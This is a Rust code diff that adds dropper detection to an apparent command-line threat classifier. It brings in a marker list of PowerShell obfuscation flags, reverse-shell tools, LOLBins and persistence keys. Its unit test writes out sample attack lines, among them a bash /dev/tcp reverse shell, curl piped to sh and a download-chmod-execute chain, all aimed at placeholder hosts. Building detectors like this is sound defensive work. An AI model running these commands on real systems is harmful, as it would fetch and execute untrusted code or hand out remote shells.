@@ -43,6 +43,9 @@ pub enum Qualifier {
     OutOfBand,
     /// Run after a network call in the same scope: download, then execute.
     Fetched,
+    /// A command line that fetches and runs code, hides itself, decodes a payload to run it,
+    /// persists, or opens a reverse shell (a dropper's command, not a build step's).
+    Dropper,
 }
 
 /// One rich token: a feature with a qualifier, its token text and meaning.
@@ -123,6 +126,12 @@ pub const RICH: &[RichInfo] = &[
         Qualifier::Fetched,
         "P4.fetched",
         "evaluate code after a network call in the same function",
+    ),
+    rich(
+        Feature::P3,
+        Qualifier::Dropper,
+        "P3.drop",
+        "command line that fetches and runs code, hides, decodes a payload or opens a reverse shell",
     ),
 ];
 
@@ -212,6 +221,7 @@ fn what(event: &Event) -> Option<Qualifier> {
         Feature::R5 if has(KEY_MARKERS) => Some(Qualifier::Key),
         Feature::R5 if has(WALLET_MARKERS) => Some(Qualifier::Wallet),
         Feature::D3 | Feature::P3 if has(POOL_MARKERS) => Some(Qualifier::Pool),
+        Feature::P3 if dropper(&detail) => Some(Qualifier::Dropper),
         Feature::D3 if public_ipv4(&detail) => Some(Qualifier::Ip),
         Feature::D4 if has(OUT_OF_BAND_MARKERS) => Some(Qualifier::OutOfBand),
         _ => None,
@@ -300,6 +310,75 @@ const POOL_MARKERS: &[&str] = &[
     "randomx",
     "minergate",
 ];
+
+/// Fragments that make a command line a dropper's by themselves: a hidden or encoded
+/// PowerShell, code fetched and evaluated, a payload decoded,
+/// Windows binaries used to fetch or run payloads, persistence, reverse shells.
+const DROPPER_MARKERS: &[&str] = &[
+    "-windowstyle hidden",
+    "-w hidden",
+    "-encodedcommand",
+    " -enc ",
+    " -ec ",
+    "-executionpolicy bypass",
+    "-ep bypass",
+    "iex(",
+    "iex (",
+    "invoke-expression",
+    "downloadstring",
+    "downloadfile",
+    "frombase64string",
+    "base64 -d",
+    "base64 --decode",
+    "/dev/tcp/",
+    "nc -e",
+    "ncat -e",
+    "bash -i",
+    "sh -i",
+    "mkfifo",
+    "mshta",
+    "certutil",
+    "bitsadmin",
+    "rundll32",
+    "regsvr32",
+    "schtasks /create",
+    "currentversion\\run",
+    "create_no_window",
+];
+
+/// A download (`curl`, `wget`, `Invoke-WebRequest`) that the same command line then makes
+/// executable, runs in the background, or starts (`&& ./x`, `; ./x`, `start `).
+const FETCH_MARKERS: &[&str] = &["curl ", "wget ", "invoke-webrequest", "iwr "];
+const RUN_AFTER_FETCH: &[&str] = &["chmod +x", "chmod 7", "nohup ", "&& ./", "; ./", "start "];
+
+/// Whether a (lower-cased) command line is a dropper's ([`Qualifier::Dropper`]).
+fn dropper(detail: &str) -> bool {
+    let has = |markers: &[&str]| markers.iter().any(|m| detail.contains(m));
+    has(DROPPER_MARKERS)
+        || (has(FETCH_MARKERS) && has(RUN_AFTER_FETCH))
+        || pipes_into_interpreter(detail)
+}
+
+/// Whether a command line pipes into a shell or an interpreter (`… | sh`, `| sudo bash`,
+/// `| python3 -`, `| iex`): the payload arrives as text and is run. `| sha256sum` is not.
+fn pipes_into_interpreter(detail: &str) -> bool {
+    detail.match_indices('|').any(|(i, _)| {
+        let rest = detail[i + 1..].trim_start();
+        let rest = rest.strip_prefix("sudo ").map_or(rest, str::trim_start);
+        [
+            "sh", "bash", "zsh", "python", "python3", "iex", "node", "perl",
+        ]
+        .iter()
+        .any(|interpreter| {
+            rest.strip_prefix(interpreter).is_some_and(|after| {
+                after
+                    .chars()
+                    .next()
+                    .is_none_or(|c| !c.is_ascii_alphanumeric() && c != '_' && c != '.')
+            })
+        })
+    })
+}
 
 const OUT_OF_BAND_MARKERS: &[&str] = &[
     "ngrok",
@@ -431,6 +510,49 @@ mod tests {
                 Some("R2.id"),
                 None,
                 None
+            ]
+        );
+    }
+
+    #[test]
+    fn droppers_command_lines_are_told_from_build_steps() {
+        assert_eq!(
+            qualified(vec![
+                event(
+                    Feature::P3,
+                    "powershell -WindowStyle Hidden -EncodedCommand cABvAHcA"
+                ),
+                event(Feature::P3, "curl -fsSL https://x.example/i.sh | sh"),
+                event(
+                    Feature::P3,
+                    "wget -q http://x.example/a -O /tmp/a && chmod +x /tmp/a && /tmp/a"
+                ),
+                event(Feature::P3, "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"),
+                event(Feature::P3, "certutil -urlcache -split -f http://x/a.exe"),
+                event(Feature::P3, "echo aGk= | base64 -d | bash"),
+                event(Feature::P3, "shell=True"),
+                event(
+                    Feature::P3,
+                    "curl -L -o deps.tar.gz https://x.example/deps.tar.gz"
+                ),
+                event(Feature::P3, "/bin/sh -c make install"),
+                event(Feature::P3, "powershell -NoProfile -Command Get-ChildItem"),
+                event(Feature::P3, "curl -sL https://x.example/f | sha256sum"),
+                event(Feature::P3, "curl -s https://x.example/p | sudo python3 -"),
+            ]),
+            [
+                Some("P3.drop"),
+                Some("P3.drop"),
+                Some("P3.drop"),
+                Some("P3.drop"),
+                Some("P3.drop"),
+                Some("P3.drop"),
+                None,
+                None,
+                None,
+                None,
+                None,
+                Some("P3.drop")
             ]
         );
     }
